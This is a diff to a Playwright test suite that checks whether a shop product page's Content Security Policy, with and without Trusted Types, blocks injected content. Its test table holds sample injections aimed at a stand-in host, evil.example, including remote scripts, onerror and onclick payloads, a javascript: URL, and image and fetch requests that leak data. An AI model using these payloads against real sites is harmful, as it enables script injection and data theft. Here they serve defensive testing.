@@ -8,15 +8,32 @@ declare global {
   }
 }
 
-/** Ways in which code, styles or data of somebody else could come into a page or leave it, and what refuses each. */
-const intrusions: readonly (readonly [what: string, refusedBy: string, intrude: () => unknown])[] = [
+/** What refuses code that is made of text where the browser has Trusted Types. */
+const TYPES = 'require-trusted-types-for';
+
+/**
+ * Ways in which code, styles or data of somebody else could come into a page or leave it, and what refuses each: in a browser with
+ * Trusted Types, and by the rest of the policy alone.
+ */
+const intrusions: readonly (readonly [
+  what: string,
+  refusedBy: string,
+  withoutTypes: string,
+  intrude: () => unknown,
+])[] = [
   [
     'a script of another origin',
-    'require-trusted-types-for',
-    () => (document.createElement('script').src = 'https://evil.example/a.js'),
+    TYPES,
+    'script-src-elem',
+    () => {
+      const script = document.createElement('script');
+      document.head.append(script);
+      script.src = 'https://evil.example/a.js';
+    },
   ],
   [
     'a module of another origin',
+    'script-src-elem',
     'script-src-elem',
     () =>
       document.head.append(
@@ -26,36 +43,63 @@ const intrusions: readonly (readonly [what: string, refusedBy: string, intrude: 
         }),
       ),
   ],
-  ['markup', 'require-trusted-types-for', () => (document.body.innerHTML = '<img src=x onerror="ran = 1">')],
   [
-    'a document of markup',
-    'require-trusted-types-for',
-    () => (document.createElement('iframe').srcdoc = '<script>parent.ran = 1</script>'),
+    'markup',
+    TYPES,
+    'script-src-attr',
+    () => (document.createElement('div').innerHTML = '<img src="data:," onerror="ran = 1">'),
   ],
-  ['an event handler', 'require-trusted-types-for', () => document.body.setAttribute('onclick', 'ran = 1')],
+  [
+    'an event handler',
+    TYPES,
+    'script-src-attr',
+    // It is looked at when it is first called.
+    () => {
+      document.body.setAttribute('onclick', 'ran = 1');
+      document.body.click();
+    },
+  ],
   // In a later turn: what a debugger runs may make code of text.
-  ['code made of text', 'require-trusted-types-for', () => setTimeout(() => setTimeout('ran = 1'))],
+  ['code made of text', TYPES, 'script-src', () => setTimeout(() => setTimeout('ran = 1'))],
   [
     'an address that is code',
+    'script-src-elem',
     'script-src-elem',
     () => {
       location.href = 'javascript:ran = 1';
     },
   ],
-  ['a worker', 'require-trusted-types-for', () => new Worker('/pictures/evil.js')],
-  ['a style attribute', 'style-src-attr', () => document.body.setAttribute('style', 'display: none')],
+  [
+    'a worker',
+    TYPES,
+    'worker-src',
+    () => new Worker(URL.createObjectURL(new Blob(['fetch("https://evil.example/")']))),
+  ],
+  [
+    'a style attribute',
+    'style-src-attr',
+    'style-src-attr',
+    () => document.body.setAttribute('style', 'display: none'),
+  ],
   [
     'a style element',
+    'style-src-elem',
     'style-src-elem',
     () =>
       document.head.append(
         Object.assign(document.createElement('style'), { textContent: 'a { color: red }' }),
       ),
   ],
-  ['a picture that tells', 'img-src', () => (new Image().src = 'https://evil.example/?bag=1')],
-  ['a request that tells', 'connect-src', () => fetch('https://evil.example/?bag=1').catch(() => undefined)],
+  ['a picture that tells', 'img-src', 'img-src', () => (new Image().src = 'https://evil.example/?bag=1')],
+  [
+    'a request that tells',
+    'connect-src',
+    'connect-src',
+    () => fetch('https://evil.example/?bag=1').catch(() => undefined),
+  ],
   [
     'another base of all links',
+    'base-uri',
     'base-uri',
     () =>
       document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' })),
@@ -63,19 +107,23 @@ const intrusions: readonly (readonly [what: string, refusedBy: string, intrude: 
   [
     'a frame',
     'frame-src',
+    'frame-src',
     () =>
       document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' })),
   ],
   [
     'a plugin',
-    'require-trusted-types-for',
-    () =>
-      document.body.append(
-        Object.assign(document.createElement('object'), { data: 'https://evil.example/a' }),
-      ),
+    TYPES,
+    'object-src',
+    () => {
+      const plugin = document.createElement('object');
+      document.body.append(plugin);
+      plugin.data = 'https://evil.example/a';
+    },
   ],
   [
     'a form that sends elsewhere',
+    'form-action',
     'form-action',
     () => {
       const form = Object.assign(document.createElement('form'), {
@@ -93,31 +141,54 @@ test.describe('where something has got into a page', () => {
     expectedComplaints: /Content Security Policy|Trusted(?:HTML|Script)|evil\.example|ERR_BLOCKED_BY_CSP/,
   });
 
-  test('a shopper is safe: nothing of it runs, shows or leaves', async ({ page }) => {
-    await openPage(page, '/product/lee-serum');
-    // Passed over without a report.
-    await page.evaluate(() => {
-      const script = document.createElement('script');
-      script.append('window.ran = 1');
-      document.body.append(script);
+  for (const [where, hasTypes] of [
+    ['', true],
+    [' in a browser without Trusted Types', false],
+  ] as const) {
+    test(`a shopper is safe${where}: nothing of it runs, shows or leaves`, async ({ page }) => {
+      if (!hasTypes)
+        await page.route('**/product/lee-serum', async (route) => {
+          const response = await route.fetch();
+          const policy = response.headers()['content-security-policy'] ?? '';
+          const without = policy.replace(/; require-trusted-types-for .*?; trusted-types [^;]*/, '');
+          expect(without).not.toBe(policy);
+          await route.fulfill({
+            response,
+            headers: { ...response.headers(), 'content-security-policy': without },
+          });
+        });
+      await openPage(page, '/product/lee-serum');
+      // Passed over without a report, or reported where nobody listens.
+      await page.evaluate(() => {
+        const script = document.createElement('script');
+        script.append('window.ran = 1');
+        document.body.append(script);
+        try {
+          document.body.append(
+            Object.assign(document.createElement('iframe'), { srcdoc: '<script>parent.ran = 1</script>' }),
+          );
+        } catch {
+          // Trusted Types refuse a document of markup.
+        }
+      });
+      for (const [what, byAll, byPolicy, intrude] of intrusions) {
+        const refusal = page.evaluate(
+          () =>
+            new Promise<string>((resolve) => {
+              document.addEventListener(
+                'securitypolicyviolation',
+                (event) => resolve(event.effectiveDirective),
+                { once: true },
+              );
+              setTimeout(resolve, 5000, 'nothing');
+            }),
+        );
+        // Some of it throws where it is tried.
+        await page.evaluate(intrude).catch(() => undefined);
+        const directive = await refusal;
+        expect.soft(directive, what).toBe(hasTypes ? byAll : byPolicy);
+      }
+      expect(await page.evaluate(() => window.ran)).toBeUndefined();
     });
-    for (const [what, refusedBy, intrude] of intrusions) {
-      const refusal = page.evaluate(
-        () =>
-          new Promise<string>((resolve) => {
-            document.addEventListener(
-              'securitypolicyviolation',
-              (event) => resolve(event.effectiveDirective),
-              { once: true },
-            );
-            setTimeout(resolve, 5000, 'nothing');
-          }),
-      );
-      // Some of it throws where it is tried.
-      await page.evaluate(intrude).catch(() => undefined);
-      const directive = await refusal;
-      expect.soft(directive, what).toBe(refusedBy);
-    }
-    expect(await page.evaluate(() => window.ran)).toBeUndefined();
-  });
+  }
 });
